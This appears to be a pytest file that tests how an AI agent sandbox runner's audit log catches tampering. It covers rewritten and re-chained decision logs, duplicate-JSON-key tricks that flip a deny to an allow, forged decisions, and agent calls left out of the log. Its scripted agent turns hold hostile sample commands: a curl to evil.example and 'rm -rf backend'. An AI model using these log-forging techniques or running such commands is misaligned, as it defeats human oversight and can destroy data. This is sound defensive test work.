"""Host boundary: ``audit verify`` proves more than an unbroken chain.

A run is made of the real parts: the agent process (on the host) asks a scripted model
through the real gateway, every call is decided by ``Run.decisions`` (the DecisionService) (real derivation, real
regorus policies, the real decision log), and ``Run.finish`` writes the summary and signs
the chain head with a host key kept outside the run directory. Then the log is attacked:
rewritten and re-chained with ``summary.json`` edited to match, given a duplicate JSON key,
and given decisions the model never asked for.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from runner.audit import DecisionLog, entry_hash, host_key
from runner.cli import main
from runner.config import build_run_config
from runner.protocol import DecideRequest, DecideResponse
from runner.run.display import RunDisplay
from runner.run.phases import Run, prepare
from tests.agent.conftest import AgentRun, run_agent  # noqa: F401  (fixture)

TURNS: list[dict[str, Any]] = [
    {"text": "Looking around", "tool_calls": [
        {"name": "LS", "input": {"path": "."}},
        {"name": "Write", "input": {"file_path": "backend/app.py", "content": "x = 1\n"}},
    ]},
    {"tool_calls": [
        {"name": "Write", "input": {"file_path": "frontend/app.js", "content": "evil()"}},
        {"name": "Bash", "input": {"command": "curl https://evil.example/x"}},
        {"name": "Bash", "input": {"command": "echo unlogged-1"}},
        {"name": "Bash", "input": {"command": "echo unlogged-2"}},
    ]},
    {"text": "Done."},
]
SKIPPED = ("echo unlogged-1", "echo unlogged-2")


@dataclass
class Finished:
    run: Run
    run_dir: Path
    key: Path
    agent: AgentRun

    def lines(self) -> list[dict[str, Any]]:
        return [json.loads(x) for x in (self.run_dir / "decisions.jsonl").read_text().splitlines()]

    def tool_use_id(self, command: str) -> str:
        for line in (self.run_dir / "transcript.jsonl").read_text().splitlines():
            for block in (json.loads(line).get("response") or {}).get("content", []):
                if block.get("type") == "tool_use" and block["input"].get("command") == command:
                    return str(block["id"])
        raise AssertionError(f"no tool_use for {command!r}")


def cli(*args: str | Path) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], env={"COLUMNS": "250"})


@pytest.fixture
def make_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
             run_agent: Callable[..., AgentRun]) -> Callable[..., Finished]:  # noqa: F811
    key = tmp_path / "host-config" / "sandbox-runner" / "audit.key"
    monkeypatch.setenv("SANDBOX_RUNNER_AUDIT_KEY", str(key))

    def make(*, skip_logging: tuple[str, ...] = ()) -> Finished:
        project = tmp_path / "ws"
        (project / "backend").mkdir(parents=True)
        scenario = tmp_path / "unused.yaml"
        scenario.write_text('turns:\n  - text: "Done."\n')
        cfg = build_run_config(project, {"model": f"scripted:{scenario}",
                                         "out": str(tmp_path / "run")})
        run = Run(prepare(cfg), RunDisplay(quiet=True))
        run.run_dir.mkdir(parents=True)
        run.decisions.log = DecisionLog(run.run_dir / "decisions.jsonl", labels={"run_id": run.run_id},
                              bundle_hash=run.prep.bundle.hash)

        def decide(req: DecideRequest) -> DecideResponse:
            if req.input.get("command") in skip_logging:  # an agent that runs it unasked
                return DecideResponse(allow=True, decision_id="not-logged")
            return run.decisions.decide(req)

        agent = run_agent(TURNS, decide=decide)
        assert agent.proc.returncode == 0, agent.proc.stderr
        assert agent.run_dir == run.run_dir
        return Finished(run=run, run_dir=run.run_dir, key=key, agent=agent)

    return make


def finish(f: Finished) -> None:
    assert f.run.decisions.log is not None
    f.run.decisions.log.close()
    summary = f.run.finish(None)
    assert summary.audit.verified and summary.audit.signature and summary.audit.key_id


@pytest.mark.host_boundary(
    finding="audit-rechain",
    title="A decision log rewritten and re-chained, with summary.json edited to match, passed "
          "`audit verify`; the chain head is now signed with a host key kept outside the run "
          "directory and `audit verify --key` catches the rewrite")
def test_rewritten_and_rechained_log_with_edited_summary_is_caught_with_the_key(
        make_run: Callable[..., Finished]) -> None:
    f = make_run()
    finish(f)
    assert f.key.stat().st_mode & 0o777 == 0o600
    assert not f.key.resolve().is_relative_to(f.run_dir.resolve())
    sig = json.loads((f.run_dir / "audit.sig").read_text())
    lines = f.lines()
    assert (sig["entries"], sig["head_hash"]) == (len(lines), lines[-1]["hash"])
    assert all(line.get("tool_use_id") for line in lines)  # the agent sends it, the log has it
    good = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert good.exit_code == 0, good.output
    assert "signed: head signed with key" in good.stdout

    # The attack: every deny becomes an allow, the chain is recomputed, the summary follows.
    prev = "0" * 64
    for line in lines:
        if not line["result"]["allow"]:
            line["result"] = {"allow": True, "reasons": []}
        line["prev_hash"] = prev
        line["hash"] = prev = entry_hash(line)
    (f.run_dir / "decisions.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    summary = json.loads((f.run_dir / "summary.json").read_text())
    summary["audit"]["head_hash"] = prev
    summary["decisions"]["denied"], summary["decisions"]["allowed"] = 0, len(lines)
    (f.run_dir / "summary.json").write_text(json.dumps(summary))

    assert cli("audit", "verify", f.run_dir).exit_code == 0  # the chain alone cannot tell
    caught = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert caught.exit_code == 1
    assert caught.stdout.startswith("tampered: the log ends at head " + prev)
    assert "(log rewritten, truncated or extended)" in caught.stdout

    # Re-signing needs the key: editing audit.sig to the new head breaks its signature,
    (f.run_dir / "audit.sig").write_text(json.dumps({**sig, "head_hash": prev}))
    edited = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert edited.exit_code == 1 and "does not match its content" in edited.stdout
    # a signature made with another key names it,
    other = host_key(f.key.parent / "other.key")
    (f.run_dir / "audit.sig").write_text(json.dumps({**sig, "key_id": other.key_id}))
    assert "made with another key" in cli("audit", "verify", f.run_dir, "--key", f.key).stdout
    # and removing audit.sig is no way out.
    (f.run_dir / "audit.sig").unlink()
    gone = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert gone.exit_code == 1 and "no audit.sig: the chain head is not signed" in gone.stdout


def test_a_key_others_can_read_is_refused(tmp_path: Path) -> None:
    key = host_key(tmp_path / "k" / "audit.key")
    key.path.chmod(0o644)
    with pytest.raises(Exception, match="readable by others"):
        host_key(key.path)


@pytest.mark.host_boundary(
    finding="audit-duplicate-keys",
    title="A log line with a duplicate JSON key hashed as one decision and read as another; "
          "the log readers now reject duplicate keys and name the seq")
def test_duplicate_json_keys_are_rejected_with_the_seq(make_run: Callable[..., Finished]) -> None:
    f = make_run()
    finish(f)
    log = f.run_dir / "decisions.jsonl"
    lines = log.read_text().splitlines()
    last = json.loads(lines[-1])
    seq = last["seq"]
    # A denied call, written so that Python (last key wins) reads an allow; the hash is made
    # over what Python reads, so the chain holds.
    denied = next(i for i, x in enumerate(lines) if not json.loads(x)["result"]["allow"])
    record = json.loads(lines[denied])
    assert record["seq"] == denied
    record["result"]["allow"] = True
    record["hash"] = entry_hash(record)
    raw = json.dumps(record).replace('"allow": true', '"allow": false, "allow": true', 1)
    assert json.loads(raw) == record
    lines[denied] = raw
    for i in range(denied + 1, len(lines)):
        nxt = json.loads(lines[i])
        nxt["prev_hash"] = json.loads(lines[i - 1])["hash"] if i - 1 != denied else record["hash"]
        nxt["hash"] = entry_hash(nxt)
        lines[i] = json.dumps(nxt)
    log.write_text("\n".join(lines) + "\n")
    assert seq == len(lines) - 1

    result = cli("audit", "verify", f.run_dir)
    assert result.exit_code == 1
    assert result.stdout.startswith(
        f"tampered: first bad seq {denied}: line {denied + 1}: duplicate key 'allow'")
    shown = cli("audit", "show", f.run_dir)
    assert shown.exit_code == 2
    assert f"line {denied + 1} (seq {denied}): duplicate key 'allow'" in shown.stderr


@pytest.mark.host_boundary(
    finding="audit-forged-decision",
    title="`audit verify` accepted decisions the model never asked for; each decision now "
          "carries its tool_use_id and is matched against the tool_use blocks of the transcript")
def test_forged_decisions_and_unasked_calls_are_reported(make_run: Callable[..., Finished]) -> None:
    f = make_run(skip_logging=SKIPPED)
    real = f.tool_use_id("curl https://evil.example/x")
    unlogged = f.tool_use_id("echo unlogged-2")
    before = len(f.lines())
    # What a process posting to /v1/decide could add: through the same path, Run.decisions.decide.
    f.run.decisions.decide(DecideRequest(tool="Bash", input={"command": "rm -rf backend"},
                               tool_use_id="toolu_01forgedforgedforgedforg"))
    f.run.decisions.decide(DecideRequest(tool="Bash", input={"command": "curl https://evil.example/x"},
                               tool_use_id=real))
    f.run.decisions.decide(DecideRequest(tool="Bash", input={"command": "echo changed"},
                               tool_use_id=unlogged))
    f.run.decisions.decide(DecideRequest(tool="Read", input={"file_path": "backend/app.py"}))
    finish(f)

    result = cli("audit", "verify", f.run_dir)
    assert result.exit_code == 1, result.output
    out = result.stdout
    assert out.startswith("unmatched: 5 problem(s)")
    assert (f"seq {before}: Bash names tool_use toolu_01forgedforgedforgedforg, which no model "
            "response contains") in out
    assert f"seq {before + 1}: tool_use {real} was already decided at seq" in out
    assert (f"seq {before + 2}: the decided input of Bash differs from the model's tool_use "
            f"{unlogged}") in out
    assert f"seq {before + 3}: Read has no tool_use_id" in out
    assert f"tool_use {f.tool_use_id('echo unlogged-1')} (Bash, transcript line" in out
    assert "was answered without a decision" in out
    # the chain itself is intact and signed: only the cross-check can tell
    signed = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert signed.exit_code == 1 and signed.stdout.startswith("unmatched: 5 problem(s)")


def test_an_honest_run_matches_its_transcript(make_run: Callable[..., Finished]) -> None:
    f = make_run()
    finish(f)
    result = cli("audit", "verify", f.run_dir, "--key", f.key)
    assert result.exit_code == 0, result.output
    n = len(f.lines())
    assert n == 6
    assert result.stdout.splitlines()[0] == f"ok: {n} decisions, head {f.lines()[-1]['hash']}"
    assert f"transcript: {n} decisions match tool_use blocks of transcript.jsonl" in result.stdout
